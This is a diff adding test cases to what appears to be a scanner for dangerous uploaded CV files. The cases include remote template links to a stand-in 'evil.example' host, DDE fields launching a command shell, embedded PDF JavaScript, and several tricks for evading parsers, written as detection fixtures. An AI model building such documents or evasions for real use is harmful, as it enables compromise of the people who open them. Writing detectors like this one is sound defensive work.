@@ -16,7 +16,7 @@ const SHEET = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet
 
 const types = (type: string) =>
   `<?xml version="1.0"?><Types><Override PartName="/a.xml" ContentType="${type}"/></Types>`;
-const docx = (extra: Record<string, string> = {}, type = WORD) =>
+const docx = (extra: Record<string, string | Buffer> = {}, type = WORD) =>
   zip({ '[Content_Types].xml': types(type), 'word/document.xml': '<w:document/>', ...extra });
 const xlsx = () => zip({ '[Content_Types].xml': types(SHEET), 'xl/workbook.xml': '<workbook/>' });
 /** An old Office file, as far as anybody looks into it. */
@@ -34,6 +34,10 @@ const pdf = (...objects: string[]) =>
   Buffer.from(`%PDF-1.5\n${objects.join('\n')}\ntrailer<</Root 1 0 R>>\n%%EOF`, 'latin1');
 const stream = (content: string, dictionary = '') =>
   `5 0 obj<<${dictionary}/Filter/FlateDecode>>stream\n${deflateSync(content).toString('latin1')}\nendstream endobj`;
+
+const outside = (rest: string) =>
+  docx({ 'word/_rels/settings.xml.rels': relationship('attachedTemplate', rest) });
+const SCRIPT = '5 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj';
 
 describe('inspectFile', () => {
   it.each([
@@ -151,6 +155,84 @@ describe('inspectFile', () => {
           'TargetMode = \'External\' Target="\\\\\\\\evil\\a"',
         ),
       }),
+    ],
+    [
+      'a document whose relationship is written with a character reference',
+      'cv.docx',
+      outside('Target="https://evil.example/t.dotm" TargetMode="&#69;xternal"'),
+    ],
+    [
+      'a document whose template calls itself a link',
+      'cv.docx',
+      outside('Target="https://evil.example/hyperlink" TargetMode="External"'),
+    ],
+    [
+      'a document with a bracket in an attribute',
+      'cv.docx',
+      outside('Note="a>b" Target="https://evil.example/t.dotm" TargetMode="External"'),
+    ],
+    [
+      'a document with a relationship in UTF-16',
+      'cv.docx',
+      docx({
+        'word/_rels/settings.xml.rels': Buffer.from(
+          relationship('attachedTemplate', 'Target="https://evil.example/t" TargetMode="External"'),
+          'utf16le',
+        ).swap16(),
+      }),
+    ],
+    [
+      'a document with a document type',
+      'cv.docx',
+      docx({ '_rels/.rels': `<!DOCTYPE a [<!ENTITY e "External">]>${relationship('image', 'Target="a"')}` }),
+    ],
+    [
+      'a document with a field in pieces that starts a program',
+      'cv.docx',
+      docx({
+        'word/document.xml':
+          '<w:document xmlns:w="w"><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\a</w:instrText></w:document>',
+      }),
+    ],
+    [
+      'a pdf whose objects are written in hexadecimal digits',
+      'cv.pdf',
+      pdf(
+        `6 0 obj<</Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode>>stream\n${Buffer.from(
+          '5 0 <</S/JavaScript/JS(a)>>',
+        ).toString('hex')}>\nendstream endobj`,
+      ),
+    ],
+    [
+      'a pdf with a script in a packed object of no stated type, whose checksum is wrong',
+      'cv.pdf',
+      pdf(
+        stream('5 0 null<</S/JavaScript/JS(a)>>', '/N 1/First 4').replace(
+          /.{4}\nendstream/s,
+          'oops\nendstream',
+        ),
+      ),
+    ],
+    [
+      'a pdf with a comment before a stream that holds a bracket',
+      'cv.pdf',
+      pdf(`4 0 obj<</Length 1>>%\nstream\n(\nendstream\nendobj\n${SCRIPT}`),
+    ],
+    [
+      'a pdf with a stream that seems to end before an open bracket',
+      'cv.pdf',
+      pdf(`4 0 obj<</Length 12>>stream\nendstream\n(\nendstream\nendobj\n${SCRIPT}`),
+    ],
+    ['a pdf with a NUL behind a name', 'cv.pdf', pdf('1 0 obj<</S/JavaScript\0/JS\0(a)>>endobj')],
+    [
+      'a pdf that keeps apart how a stream is packed',
+      'cv.pdf',
+      pdf('7 0 obj/FlateDecode endobj', '6 0 obj<</N 1/First 4/Filter 7 0 R>>stream\nx\nendstream endobj'),
+    ],
+    [
+      'a text with a field in pieces',
+      'cv.rtf',
+      Buffer.from('{\\rtf1{\\field{\\*\\fldinst {\\b0}{D}D\\b0 EAUTO c:\\\\cmd}}}'),
     ],
     ['a document with an object', 'cv.docx', docx({ 'word/embeddings/oleObject1.bin': 'x' })],
     ['a text with an object', 'cv.rtf', Buffer.from('{\\rtf1{\\object\\objdata 00}}')],
